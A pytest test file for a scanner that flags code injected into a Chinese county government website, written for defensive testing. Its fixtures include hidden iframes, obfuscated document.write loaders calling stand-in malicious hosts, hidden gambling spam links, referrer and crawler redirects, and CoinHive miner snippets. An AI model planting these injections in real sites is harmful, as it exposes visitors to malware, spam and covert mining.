from __future__ import annotations

import time

import pytest

from pytest_govsite.checks.content import malicious_code
from pytest_govsite.document.read import read_document
from pytest_govsite.model import Box, Frame, Outcome, Page, PageFacts, RenderedPage, Verdict
from tests.checks.building import HOME, document, is_failure, one, site


def page_of(body: str, head: str = "<title>示范县人民政府</title>") -> PageFacts:
    html = f"<html><head>{head}</head><body>{body}<p>欢迎访问示范县人民政府网站</p></body></html>"
    return PageFacts(page=Page(url=HOME), source=read_document(html, HOME))


def judged(body: str, head: str = "<title>示范县人民政府</title>") -> list[Verdict]:
    return list(malicious_code(page_of(body, head), site()))


BAD = "http://js.stat-cdn77.com/s.js"
HEX = "".join(f"\\x{ord(c):02x}" for c in f'<script src="{BAD}"></script>')
CODES = ",".join(str(ord(c)) for c in f'document.write("<script src={BAD}></script>")')
FAILING = {
    "frame without size": '<iframe src="http://www.qweads.com/x.htm" width="0" height="0"></iframe>',
    "frame of one pixel": '<iframe src="//www.qweads.com/x.htm" width=1 height="1px" frameborder=0></iframe>',
    "escaped write": f"<script>document.write(unescape('%3Cscript src=%22{BAD.replace('cdn', '%63dn')}%22%3E%3C/script%3E'))</script>",
    "escaped frame": f"<script>document.write(unescape('%3Ciframe src=%22{BAD}%22 width=0 height=0 %3E'))</script>",
    "write of codes": f"<script>eval(String.fromCharCode({CODES}))</script>",
    "write in hexadecimal": f"<script>window.document.write('{HEX}')</script>",
    "write by brackets": f"<script>document['write'](unescape(\"%3Ciframe style='display:none' src='{BAD}'%3E\"))</script>",
    "written hidden links": "<script>document.write('<div style=\"display:none\">');</script>"
    "<script>document.write('<div style=\"position:absolute;left:-9999px\"><a href=\"http://www.sf-999.com/\">传奇私服</a>');document.write('</div>')</script>",
    "written hidden frame": "<script>document.writeln(\"<iframe src='http://www.qweads.com/' width=0 height=0></iframe>\")</script>",
    "redirect by referrer": "<script>var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){location.href='https://www.yule-8899.com/'}</script>",
    "redirect of crawlers": "<script>if(/baiduspider|sogou web spider/i.test(navigator.userAgent)){document.write('<a href=\"http://www.yule-8899.com/\">x</a>')}</script>",
    "miner": "<script>var m=new CoinHive.Anonymous('key');m.start()</script>",
    "miner's file": '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
}


@pytest.mark.parametrize("body", FAILING.values(), ids=FAILING)
def test_injected_code_fails(body: str) -> None:
    assert is_failure(judged(body)[0])


DOUBTFUL = {
    "frame not shown": '<iframe src="https://www.qweads.com/x.htm" style="display:none" width="600"></iframe>',
    "frame that may grow": '<iframe src="https://live.shifan-tv.com/" width="100%" height="0"></iframe>',
    "packed": "<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>",
    "encoded": "<script>eval(unescape(code('%61%62')))</script>",
    "counter of a company": f"<script>document.write(unescape('%3Cscript src=%22{BAD}%22%3E%3C/script%3E'))</script>",
    "referrer": "<script>if(document.referrer.indexOf('baidu.com')>-1){location.href=target}</script>",
}


@pytest.mark.parametrize("body", DOUBTFUL.values(), ids=DOUBTFUL)
def test_doubtful_code_is_for_a_person(body: str) -> None:
    assert one(judged(body)).outcome is Outcome.CANT_TELL


USUAL = {
    "official mark": "<script>document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/12/158/0000/60446/CA121580000604460002.js' type='text/javascript'%3E%3C/script%3E\"));</script>",
    "error report": '<script id="_jiucuo_" sitecode="3301990001" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>',
    "counter": '<div style="display:none"><script>var p=(("https:"==document.location.protocol)?"https://":"http://");document.write(unescape("%3Cspan id=\'cnzz_stat_icon_1\'%3E%3C/span%3E%3Cscript src=\'"+p+"s23.cnzz.com/z_stat.php%3Fid%3D1\' type=\'text/javascript\'%3E%3C/script%3E"));</script></div>',
    "counter's frame": '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0" width="0" style="display:none"></iframe></noscript>',
    "baidu counter": '<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?1";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s)})();</script>',
    "accessibility tool": '<script src="https://yqgx.mangren.com/wza.js"></script><script src="https://wza.govwza.cn/dist/aria.js"></script>',
    "own hidden frame": '<iframe src="/common/login.html" width="0" height="0"></iframe><iframe src="https://tj.shifan.gov.cn/c" width=0 height=0></iframe>',
    "frame for uploading": '<iframe name="upload" style="display:none"></iframe><iframe src="about:blank" width="0" height="0"></iframe>',
    "other government": '<iframe src="https://www.zjzwfw.gov.cn/sso" width="0" height="0"></iframe>',
    "player in a tab": '<div style="display:none"><iframe src="https://player.youku.com/embed/1"></iframe></div>',
    "map shown": '<iframe src="https://www.weathers-x.com/w" width="300" height="120"></iframe>',
    "back to the last page": "<script>function back(){if(document.referrer){location.href=document.referrer}else{location.href='/'}}</script>",
    "counter by source": "<script>var r=document.referrer,s=r.indexOf('baidu')>0?'baidu':'';var i=new Image();i.src='https://tj.some-counter.net/c.gif?s='+s+'&u='+location.href</script>",
    "phones": "<script>if(/iphone|android|baiduboxapp/i.test(navigator.userAgent)){location.href='https://m.shifan.gov.cn/'}</script>",
    "written include": "<script>document.write('<script src=\"/js/jquery.js\"><\\/script>');document.write('<iframe src=\"/foot.html\" width=1000 height=0></iframe>')</script>",
    "written table": '<script>document.write("<div style=\'display:none\'>"+new Date().getFullYear()+"</div>")</script>',
    "decoded parameter": "<script>document.write(decodeURIComponent(q)); eval('(' + json + ')')</script>",
    "escaped Chinese": "<script>document.write('\\u793a\\u8303\\u53bf\\u4eba\\u6c11\\u653f\\u5e9c\\u7f51\\u7ad9\\u6b22\\u8fce\\u60a8')</script>",
}  # fmt: skip


@pytest.mark.parametrize("body", USUAL.values(), ids=USUAL)
def test_usual_code_passes(body: str) -> None:
    assert one(judged(body)).outcome is Outcome.PASSED


def test_labels_with_words_that_the_page_does_not_show_fail() -> None:
    head = "<title>&#28595;&#38376;&#26032;&#33889;&#20140;_示范县人民政府</title>"
    assert is_failure(one(judged("", head)))
    described = '<title>示范县人民政府</title><meta name="description" content="时时彩投注平台，百家乐现金网开户">'
    assert is_failure(one(judged("", described)))


def test_labels_with_words_that_the_page_shows_are_for_a_person() -> None:
    assert one(judged("<h1>什么是百家乐</h1>", "<title>什么是百家乐</title>")).outcome is Outcome.CANT_TELL


@pytest.mark.parametrize("title", ["我县公安捣毁一网络赌场百家乐窝点", "中国体育彩票投注站", "严厉打击六合彩违法犯罪"])
def test_what_the_police_report_passes(title: str) -> None:
    assert one(judged("", f"<title>{title}</title>")).outcome is Outcome.PASSED


def test_a_frame_that_the_browser_shows_large_passes() -> None:
    source = page_of('<iframe src="https://live.shifan-tv.com/" width="0" height="0"></iframe>')
    frame = Frame(
        selector="iframe", source="https://live.shifan-tv.com/", visible=True, box=Box(x=0, y=0, width=640, height=360)
    )
    shot = RenderedPage(engine="chromium", width=1280, height=800, document=document(frames=(frame,)))
    page = PageFacts(page=Page(url=HOME), source=source.source, rendered=(shot,))
    assert one(malicious_code(page, site())).outcome is Outcome.PASSED


@pytest.mark.parametrize(
    "code",
    [
        "document.write(" * 20_000,
        "eval(unescape('%" + "41" * 90_000,
        "eval(atob('" + "=" * 5_000 + "'))",
        "document.write('\\x" * 5_000,
        "eval(String.fromCharCode(" + "99999999999," * 200 + "1))",
        "document.referrer baidu " * 5_000,
        "<iframe " * 20_000,
    ],
)
def test_odd_scripts_cost_little_and_break_nothing(code: str) -> None:
    begun = time.perf_counter()
    assert judged(f"<script>{code}</script>")
    assert time.perf_counter() - begun < 3
